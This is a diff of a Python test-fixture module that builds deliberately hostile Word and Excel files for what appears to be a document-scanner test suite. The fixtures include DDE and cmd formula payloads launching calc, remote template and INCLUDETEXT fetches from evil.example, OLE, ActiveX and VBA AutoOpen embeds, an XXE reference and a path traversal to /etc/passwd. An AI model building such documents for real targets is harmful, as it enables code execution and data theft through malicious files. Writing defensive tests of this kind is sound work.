@@ -127,70 +127,83 @@ def hostile_archives():
     }
 
 
+_FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText>'
+_FIELD += '</w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r><w:r>'
+_FIELD += '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>見積</w:t></w:r><w:r>'
+_FIELD += '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
+_SIMPLE = '<w:p><w:fldSimple w:instr="INCLUDETEXT http://evil.example/a.docx"><w:r><w:t>本文'
+_SIMPLE += "</w:t></w:r></w:fldSimple></w:p>"
+_OLE = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+_OLE += 'Type="Embed" ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>'
+_CONTROL = '<w:p><w:r><w:control r:id="rId9" w:name="x"/></w:r></w:p>'
+_LINK = '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>押す</w:t></w:r></w:hyperlink></w:p>'
+_CHUNK = '<w:altChunk r:id="rId9"/>'
+_OUTSIDE = f'<w:p><w:r><a:blip xmlns:a="urn:x" r:link="rId9"/></w:r></w:p>{_LINK}'
+_SETTINGS = (
+    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    '<w:attachedTemplate r:id="rId1"/><w:mailMerge><w:query w:val="x"/></w:mailMerge>'
+    "</w:settings>"
+)
+_TEMPLATE = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://x/attachedTemplate" TargetMode="External" '
+    b'Target="http://evil.example/t.dotm"/></Relationships>'
+)
+_VBA_PARTS = {
+    "more_types": {"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
+    "more_rels": (("rId9", _VBA, "vbaProject.bin", ""),),
+    "more": {"word/vbaProject.bin": b"Attribute VB_Name = AutoOpen"},
+}
+_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
+
+
 def hostile_documents():
-    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText>'
-    field += '</w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r><w:r>'
-    field += '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>見積</w:t></w:r><w:r>'
-    field += '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
-    simple = '<w:p><w:fldSimple w:instr="INCLUDETEXT http://evil.example/a.docx"><w:r><w:t>本文'
-    simple += "</w:t></w:r></w:fldSimple></w:p>"
-    ole = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
-    ole += 'Type="Embed" ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>'
-    control = '<w:p><w:r><w:control r:id="rId9" w:name="x"/></w:r></w:p>'
-    link = '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>押す</w:t></w:r></w:hyperlink></w:p>'
-    chunk = '<w:altChunk r:id="rId9"/>'
-    outside = f'<w:p><w:r><a:blip xmlns:a="urn:x" r:link="rId9"/></w:r></w:p>{link}'
-    settings = (
-        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
-        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
-        '<w:attachedTemplate r:id="rId1"/><w:mailMerge><w:query w:val="x"/></w:mailMerge>'
-        "</w:settings>"
-    )
-    template = (
-        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        b'<Relationship Id="rId1" Type="http://x/attachedTemplate" TargetMode="External" '
-        b'Target="http://evil.example/t.dotm"/></Relationships>'
-    )
-    vba = {
-        "more_types": {"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
-        "more_rels": (("rId9", _VBA, "vbaProject.bin", ""),),
-        "more": {"word/vbaProject.bin": b"Attribute VB_Name = AutoOpen"},
-    }
-    oletype = "application/vnd.openxmlformats-officedocument.oleObject"
+    return {**acting_letters(), **malformed_letters(), **sheets_and_others()}
+
+
+def acting_letters():
+    """Word files that run, fetch or embed something."""
     return {
-        "docm-renamed.docx": docx(main=_MACRO_MAIN, **vba),
-        "vba-in-docx.docx": docx(**vba),
-        "docm.docm": docx(main=_MACRO_MAIN, **vba),
-        "dde-field.docx": docx(body=field),
-        "include-field.docx": docx(body=simple),
+        "docm-renamed.docx": docx(main=_MACRO_MAIN, **_VBA_PARTS),
+        "vba-in-docx.docx": docx(**_VBA_PARTS),
+        "docm.docm": docx(main=_MACRO_MAIN, **_VBA_PARTS),
+        "dde-field.docx": docx(body=_FIELD),
+        "include-field.docx": docx(body=_SIMPLE),
         "ole-object.docx": docx(
-            body=ole, more_types={"/word/embeddings/o.bin": oletype},
+            body=_OLE, more_types={"/word/embeddings/o.bin": _OLE_TYPE},
             more_rels=(("rId9", "oleObject", "embeddings/o.bin", ""),),
             more={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0" + EICAR},
         ),
         "activex.docx": docx(
-            body=control,
+            body=_CONTROL,
             more_types={"/word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"},
             more_rels=(("rId9", "control", "activeX/a.xml", ""),),
             more={"word/activeX/a.xml": b"<ax:ocx xmlns:ax='u'/>"},
         ),
         "external-link.docx": docx(
-            body=link, more_rels=(("rId9", "hyperlink", "http://evil.example/", "External"),)
+            body=_LINK, more_rels=(("rId9", "hyperlink", "http://evil.example/", "External"),)
         ),
         "external-image.docx": docx(
-            body=outside, more_rels=(("rId9", "image", "http://evil.example/a.png", "External"),)
+            body=_OUTSIDE, more_rels=(("rId9", "image", "http://evil.example/a.png", "External"),)
         ),
         "alt-chunk.docx": docx(
-            body=chunk, more_rels=(("rId9", "aFChunk", "evil.html", ""),),
+            body=_CHUNK, more_rels=(("rId9", "aFChunk", "evil.html", ""),),
             more={"word/evil.html": b"<script>x()</script>"}, defaults=(("html", "text/html"),),
         ),
         "template.docx": docx(
             more_types={"/word/settings.xml": "application/vnd.openxmlformats-officedocument."
                         "wordprocessingml.settings+xml"},
             more_rels=(("rId9", "settings", "settings.xml", ""),),
-            more={"word/settings.xml": settings.encode(),
-                  "word/_rels/settings.xml.rels": template},
+            more={"word/settings.xml": _SETTINGS.encode(),
+                  "word/_rels/settings.xml.rels": _TEMPLATE},
         ),
+    }  # fmt: skip
+
+
+def malformed_letters():
+    """Word files whose XML or parts are traps."""
+    return {
         "xxe-custom-xml.docx": docx(more={"customXml/item1.xml": _XXE}),
         "xxe-main.docx": docx(more={"word/document.xml": _XXE}),
         "laughs-main.docx": docx(more={"word/document.xml": _LAUGHS}),
@@ -201,6 +214,12 @@ def hostile_documents():
         "escaping-relation.docx": docx(more_rels=(("rId9", "styles", "../../../etc/passwd", ""),)),
         "fake-picture.docx": docx(more={"word/media/image1.png": EICAR}),
         "dirty-picture.docx": docx(more={"word/media/image1.png": picture("PNG") + EICAR}),
+    }  # fmt: skip
+
+
+def sheets_and_others():
+    """Excel, PowerPoint and OpenDocument files that act."""
+    return {
         "formulas.xlsx": xlsx(
             formulas=("=SUM(B1:B2)", '=HYPERLINK("http://evil.example/")', "=cmd|'/c calc'!A0",
                       '=WEBSERVICE("http://evil.example/")', "='[1]a'!A1")
